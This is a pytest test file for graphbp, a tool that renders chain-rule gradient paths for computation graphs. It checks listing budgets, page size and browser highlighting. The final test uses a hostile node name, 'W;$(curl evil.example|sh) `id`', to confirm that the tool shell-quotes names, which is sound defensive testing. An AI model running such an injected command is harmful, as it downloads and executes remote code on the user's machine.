"""What a chain rule lists is bounded in total, whatever max_paths: at most
MAX_LISTED_FACTORS factors summed over the listed paths, the rest counted exactly; and the
HTML page grows linearly with the network (its formulas share one page-wide budget, its
highlighting is computed in the page from one edge list). Sizes and counts, never time."""

from __future__ import annotations

import html
import json
import re
import shlex
import shutil
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from helpers import CHROMEDRIVER, CHROMIUM, graphbp, highlighted

import graphbp as gb
from graphbp import page as page_module
from graphbp.chain import MAX_LISTED_FACTORS, MAX_PATHS_LIMIT, Edge, Flow
from graphbp.render import edge_id, node_id

needs_dot = pytest.mark.skipif(
    shutil.which("dot") is None,
    reason="Graphviz's dot executable is not installed (apt-get install graphviz)",
)


def ladder(k: int, tail: int) -> dict[str, Any]:
    """W through k diamonds of neg/neg/add (2^k paths), then a chain of ``tail`` negs: 2^k
    paths of 2k + tail + 1 factors each, in a file of a few hundred bytes per node."""
    nodes: list[dict[str, Any]] = [{"id": "W", "op": "param", "shape": [1]}]
    edges: list[dict[str, Any]] = []
    prev = "W"
    for i in range(k):
        nodes += [
            {"id": f"a{i}", "op": "neg"},
            {"id": f"b{i}", "op": "neg"},
            {"id": f"s{i}", "op": "add"},
        ]
        edges += [
            {"source": prev, "target": f"a{i}", "arg": 0},
            {"source": prev, "target": f"b{i}", "arg": 0},
            {"source": f"a{i}", "target": f"s{i}", "arg": 0},
            {"source": f"b{i}", "target": f"s{i}", "arg": 1},
        ]
        prev = f"s{i}"
    for i in range(tail):
        nodes.append({"id": f"t{i}", "op": "neg"})
        edges.append({"source": prev, "target": f"t{i}", "arg": 0})
        prev = f"t{i}"
    nodes.append({"id": "L", "op": "sum"})
    edges.append({"source": prev, "target": "L", "arg": 0})
    return {"directed": True, "graph": {"loss": "L"}, "nodes": nodes, "edges": edges}


def biases(n: int) -> dict[str, Any]:
    """An affine layer then n layers h_i = h_(i-1) + b_i, one bias each: the parameters'
    path lengths sum to about n²/2."""
    nodes: list[dict[str, Any]] = [
        {"id": "x", "op": "input", "shape": [None, 10]},
        {"id": "y", "op": "input", "shape": [None, 1]},
        {"id": "W0", "op": "param", "shape": [10, 1]},
        {"id": "c0", "op": "param", "shape": [1]},
        {"id": "a", "op": "affine"},
    ]
    edges: list[dict[str, Any]] = [
        {"source": "x", "target": "a", "arg": 0},
        {"source": "W0", "target": "a", "arg": 1},
        {"source": "c0", "target": "a", "arg": 2},
    ]
    prev = "a"
    for i in range(n):
        nodes += [
            {"id": f"b{i}", "op": "param", "shape": [1], "init": "zeros"},
            {"id": f"h{i}", "op": "add"},
        ]
        edges += [
            {"source": prev, "target": f"h{i}", "arg": 0},
            {"source": f"b{i}", "target": f"h{i}", "arg": 1},
        ]
        prev = f"h{i}"
    nodes.append({"id": "L", "op": "sse"})
    edges += [{"source": prev, "target": "L", "arg": 0}, {"source": "y", "target": "L", "arg": 1}]
    return {
        "directed": True,
        "graph": {"loss": "L", "output": prev},
        "nodes": nodes,
        "edges": edges,
    }


# ------------------------------------------------------------------------ chain_rule


def test_max_paths_at_its_limit_lists_within_the_factor_budget_and_counts_the_rest() -> None:
    k, tail = 14, 2000  # 16,384 paths of 2,029 factors: 33 million if all 10,000 were listed
    net = gb.Network.from_dict(ladder(k, tail))
    rule = gb.chain_rule(net, "W", max_paths=MAX_PATHS_LIMIT)
    length = 2 * k + tail + 1
    assert rule.path_count == 2**k and not rule.complete
    assert rule.listed_factors == sum(len(p.edges) for p in rule.paths) <= MAX_LISTED_FACTORS
    assert len(rule.paths) == MAX_LISTED_FACTORS // length  # as many as fit, no fewer
    assert all(len(p.edges) == length for p in rule.paths)
    assert len({p.edges for p in rule.paths}) == len(rule.paths)  # distinct real paths
    left = 2**k - len(rule.paths)
    assert rule.text.endswith(f" + … ({left:,} more paths)")
    assert rule.text.count(" + ") == len(rule.paths)  # the listed terms, then the count
    assert rule.html.endswith(f" + … ({left:,} more paths)")
    assert rule.latex.endswith(rf" + \dots\ (\text{{{left:,} more}})")
    assert len(rule.edges) == 4 * k + tail + 1  # the highlighted edges stay exact


def test_each_edge_has_one_factor_symbol_shared_by_every_path() -> None:
    net = gb.Network(gb.diamond_chain(10))
    rule = gb.chain_rule(net, "w", max_paths=1024)
    assert rule.complete
    symbols = {id(f) for p in rule.paths for f in p.factors}
    assert len(symbols) == len(rule.edges)


def test_max_factors_smaller_than_one_path_lists_none_and_says_so() -> None:
    net = gb.Network(gb.diamond_chain(3))  # 8 paths of 7 factors
    rule = gb.chain_rule(net, "w", max_factors=20)
    assert len(rule.paths) == 2 and rule.listed_factors == 14
    assert rule.text.endswith(" + … (6 more paths)")
    none = gb.chain_rule(net, "w", max_factors=6)
    assert none.paths == () and none.path_count == 8 and not none.complete
    assert none.text == "∂L/∂w = … (8 paths, too long to list)"
    assert none.latex.endswith(r"= \dots\ (\text{8 paths, too long to list})")
    assert none.gradient is None


@pytest.mark.parametrize("bad", [-1, MAX_LISTED_FACTORS + 1, True, 2.0, None])
def test_max_factors_outside_its_bound_is_an_input_error(bad: Any) -> None:
    net = gb.Network(gb.diamond_chain(2))
    with pytest.raises(gb.InputError, match=r"max_factors=.*from 0 to 300,000 factors"):
        gb.chain_rule(net, "w", max_factors=bad)


def test_render_and_explain_with_the_most_paths_stay_small(tmp_path: Path) -> None:
    """The reviewer's file: 160 KB, whose 10,000 listed paths would take gigabytes."""
    (tmp_path / "l.json").write_text(json.dumps(ladder(14, 2000)))
    done = graphbp(
        "render", "l.json", "--wrt", "W", "--max-paths", "10000", "-o", "l.dot", cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    dot = (tmp_path / "l.dot").read_text()
    assert len(dot) < 2_000_000 and "of 16,384 paths listed" in dot
    done = graphbp("explain", "l.json", "--wrt", "W", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert len(done.stdout) < 60 * MAX_LISTED_FACTORS  # text and LaTeX of the listed factors
    assert "more paths)" in done.stdout


# ------------------------------------------------------------------------------ the page


def _formulas(text: str) -> tuple[dict[str, Any], int]:
    """The page's embedded data and how many factors its formulas list in all."""
    found = re.search(r'<script id="chain-data" type="application/json">(.*?)</script>', text)
    assert found is not None
    data = json.loads(found[1])
    formulas = [p["formula"] for p in data["params"].values() if " = " in p["formula"]]
    return data, sum(f.count("∂") // 2 - 1 for f in formulas)  # two ∂ a factor, and the head


@needs_dot
def test_the_page_grows_linearly_with_depth(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """n biases have paths of n²/2 factors in all: the page lists PAGE_FACTORS of them,
    the shortest first, and says of each other parameter how many paths it has."""
    budget = 2_000
    monkeypatch.setattr(page_module, "PAGE_FACTORS", budget)
    sizes = {}
    for n in (150, 300):
        net = gb.Network.from_dict(biases(n))
        text = page_module.page(net)
        sizes[n] = len(text.encode())
        data, factors = _formulas(text)
        assert factors <= budget
        listed = [p for p in data["params"].values() if " = " in p["formula"]]
        others = [p for p in data["params"].values() if " = " not in p["formula"]]
        assert len(listed) + len(others) == n + 2 and others and listed
        assert data["params"][node_id(net, f"b{n - 1}")] in listed  # the shortest: 2 factors
        b0 = data["params"][node_id(net, "b0")]
        assert b0 in others
        assert b0["formula"] == (
            f"∂L/∂b0: 1 path of {n + 1} factors in all, too long to list on this page; "
            "graphbp explain GRAPH --wrt b0 writes it out"
        )
        assert len(data["edges"]) == 2 * n + 3  # once, as index triples, not per parameter
    assert sizes[300] <= 2.3 * sizes[150], sizes


@needs_dot
@pytest.mark.skipif(
    CHROMIUM is None or CHROMEDRIVER is None,
    reason="no headless browser (apt-get install chromium chromium-driver)",
)
def test_unlisted_parameters_are_still_highlighted_exactly(
    browser: Any, tmp_path: Path, nx_paths: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from selenium.webdriver.common.by import By

    monkeypatch.setattr(page_module, "PAGE_FACTORS", 30)
    net = gb.Network.from_dict(biases(12))
    path = tmp_path / "b.html"
    path.write_text(page_module.page(net, "c0"))
    browser.get(path.as_uri())
    for param in ("c0", "b0", "b11", "W0"):
        if param != "c0":
            browser.find_element(By.ID, node_id(net, param)).click()
        paths = nx_paths(net, param)
        expected = {edge_id(net, Edge(a, b, k)) for p in paths for a, b, k in p}
        expected |= {node_id(net, n) for p in paths for e in p for n in e[:2]}
        assert highlighted(browser) == expected, param
    formula = browser.find_element(By.ID, "formula").text
    assert formula.startswith("∂L/∂W0: 1 path of 14 factors in all, too long to list")
    browser.find_element(By.ID, node_id(net, "b11")).click()
    assert browser.find_element(By.ID, "formula").text.startswith("∂L/∂b11 = ")
    assert browser.get_log("browser") == []


def test_the_command_a_page_suggests_quotes_the_name_for_the_shell() -> None:
    hostile = "W;$(curl evil.example|sh) `id`"
    net = gb.Network(nx.relabel_nodes(gb.seed_network(3, 4, 1), {"W1": hostile}))
    line = html.unescape(page_module._unlisted(hostile, Flow(net)))
    assert line.endswith(f"graphbp explain GRAPH --wrt {shlex.quote(hostile)} writes it out")
    assert shlex.split(line.split("graphbp explain GRAPH --wrt ")[1])[0] == hostile
